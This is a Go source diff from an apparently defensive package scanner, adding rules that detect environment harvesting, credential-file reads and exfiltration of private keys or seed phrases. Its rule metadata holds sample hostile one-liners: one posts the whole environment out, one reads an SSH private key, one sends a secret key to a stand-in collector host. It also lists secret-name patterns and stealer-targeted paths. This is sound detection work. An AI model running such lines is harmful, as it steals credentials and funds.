@@ -1,0 +1,160 @@
+// Package cred holds rules about credential and secret access.
+package cred
+
+import (
+	"context"
+	"fmt"
+	"regexp"
+	"slices"
+	"strings"
+
+	"github.com/depfence/depfence/internal/analyze"
+	"github.com/depfence/depfence/internal/finding"
+	"github.com/depfence/depfence/internal/rules/rulekit"
+)
+
+// EnvHarvest flags bulk or secret-targeted environment reads.
+type EnvHarvest struct{}
+
+// Meta implements analyze.Rule.
+func (EnvHarvest) Meta() analyze.Meta {
+	return analyze.Meta{
+		ID: "cred/env-harvest", Version: 1, Title: "Harvests environment variables",
+		Help: "The code serialises or iterates the whole process.env (which holds CI tokens, cloud keys and registry credentials), or reads " +
+			"several token-named variables. Passing {...process.env} to a child process is normal and not reported.",
+		Remediation:     "Check where the values go; rotate the exposed tokens if the package ran in CI.",
+		Example:         `fetch(url, { method: "POST", body: JSON.stringify(process.env) })`,
+		DefaultSeverity: finding.SeverityMedium, Signal: analyze.SigEnv, Needs: analyze.NeedCode,
+	}
+}
+
+var tokenVar = regexp.MustCompile(`(?i)(TOKEN|SECRET|PASSW|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIAL|AUTH)`)
+
+// Check implements analyze.Rule.
+func (EnvHarvest) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
+	for _, f := range rulekit.Code(ctx, t) {
+		var tokens []string
+		line, snip := 0, ""
+		reported := false
+		for _, e := range f.Facts.Env {
+			if e.Name == "" {
+				how := e.How
+				bulk := how == "iterate" || strings.HasPrefix(how, "arg:JSON.stringify") || strings.HasPrefix(how, "arg:Object.") ||
+					strings.HasPrefix(how, "arg:fetch") || strings.Contains(how, "http") || strings.Contains(how, "axios") || strings.HasSuffix(how, ".write") || strings.HasSuffix(how, ".send")
+				if bulk && !reported {
+					reported = true
+					r.Report(analyze.Instance{File: f.Name, Line: e.Pos.Line, Severity: finding.SeverityHigh, Confidence: finding.ConfidenceHigh,
+						Message: fmt.Sprintf("reads the whole environment (%s)", strings.TrimPrefix(how, "arg:")), Evidence: rulekit.Ev(e.Snippet, "", "")})
+				}
+				continue
+			}
+			if tokenVar.MatchString(e.Name) && !slices.Contains(tokens, e.Name) {
+				tokens = append(tokens, e.Name)
+				if line == 0 {
+					line, snip = e.Pos.Line, e.Snippet
+				}
+			}
+		}
+		if len(tokens) > 0 {
+			sev := finding.SeverityLow
+			if len(tokens) >= 3 {
+				sev = finding.SeverityMedium
+			}
+			if len(tokens) > 6 {
+				tokens = append(tokens[:6], "…")
+			}
+			r.Report(analyze.Instance{File: f.Name, Line: line, Severity: sev, Message: "reads secret-named environment variables: " + strings.Join(tokens, ", "), Evidence: rulekit.Ev(snip, "", "")})
+		}
+	}
+	return nil
+}
+
+// FileAccess flags references to credential stores.
+type FileAccess struct{}
+
+// Meta implements analyze.Rule.
+func (FileAccess) Meta() analyze.Meta {
+	return analyze.Meta{
+		ID: "cred/file-access", Version: 1, Title: "Reads credential files",
+		Help: "The code names a credential store: SSH keys, cloud CLI credentials, .npmrc, browser profiles (Login Data, Cookies, Local Storage), " +
+			"crypto wallet files and extension IDs, Discord token storage, /etc/shadow. Stealers enumerate exactly these paths.",
+		Remediation:     "Remove the package unless it is a tool whose job is to manage those credentials.",
+		Example:         `fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"))`,
+		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigCred, Needs: analyze.NeedCode,
+	}
+}
+
+// Check implements analyze.Rule.
+func (FileAccess) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
+	for _, f := range rulekit.Code(ctx, t) {
+		reads := false
+		for _, c := range f.Facts.Calls {
+			switch rulekit.Last(c.Callee) {
+			case "readFile", "readFileSync", "createReadStream", "readdir", "readdirSync", "copyFile", "copyFileSync", "existsSync", "exec", "execSync":
+				reads = true
+			}
+		}
+		best, line, snip, what := 0, 0, "", ""
+		for _, s := range f.Facts.Strings {
+			lvl, m := rulekit.SensitivePath(s.Value)
+			if lvl > best {
+				best, line, snip, what = lvl, s.Pos.Line, s.Snippet, m
+			}
+		}
+		if best == 0 {
+			continue
+		}
+		sev := finding.SeverityMedium
+		if best == 2 && reads {
+			sev = finding.SeverityHigh
+		} else if best == 1 && !reads {
+			sev = finding.SeverityLow
+		}
+		r.Report(analyze.Instance{File: f.Name, Line: line, Severity: sev, Message: fmt.Sprintf("references credential store %q", what), Evidence: rulekit.Ev(snip, "", "")})
+	}
+	return nil
+}
+
+// SecretExfil flags private keys or seed phrases handed to code that sends them off-host.
+type SecretExfil struct{}
+
+// Meta implements analyze.Rule.
+func (SecretExfil) Meta() analyze.Meta {
+	return analyze.Meta{
+		ID: "cred/secret-exfil", Version: 1, Title: "Sends private keys or seed phrases to the network",
+		Help: "A value named like a private key, secret key, mnemonic or seed phrase is passed to a network call, or to a local function whose body " +
+			"posts to a hard-coded URL. Wallet libraries sign locally; sending key material anywhere is theft (the @solana/web3.js 1.95.6-7 backdoor).",
+		Remediation:     "Do not use this version; move funds from any key it handled.",
+		Example:         `function q(k){ fetch("https://collector.example/q", {headers: {"x-id": k}}) } q(keypair.secretKey)`,
+		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigWallet, Needs: analyze.NeedCode,
+	}
+}
+
+var secretName = regexp.MustCompile(`(?i)^_?(private_?key|secret_?key|mnemonic|seed_?phrase|seed|priv_?key|wallet_?key|keypair)s?$`)
+
+// Check implements analyze.Rule.
+func (SecretExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
+	for _, f := range rulekit.Code(ctx, t) {
+		for _, c := range f.Facts.Calls {
+			sender := rulekit.IsNetCall(c) || slices.Contains(f.Facts.Senders, rulekit.Last(c.Callee))
+			if !sender {
+				continue
+			}
+			for _, a := range c.Args {
+				hit := ""
+				for _, n := range a.Names {
+					if secretName.MatchString(n) {
+						hit = n
+						break
+					}
+				}
+				if hit != "" {
+					r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Confidence: finding.ConfidenceHigh,
+						Message: fmt.Sprintf("passes %q to %s(), which sends it to the network", hit, c.Callee), Evidence: rulekit.Ev(c.Snippet, "", "")})
+					break
+				}
+			}
+		}
+	}
+	return nil
+}
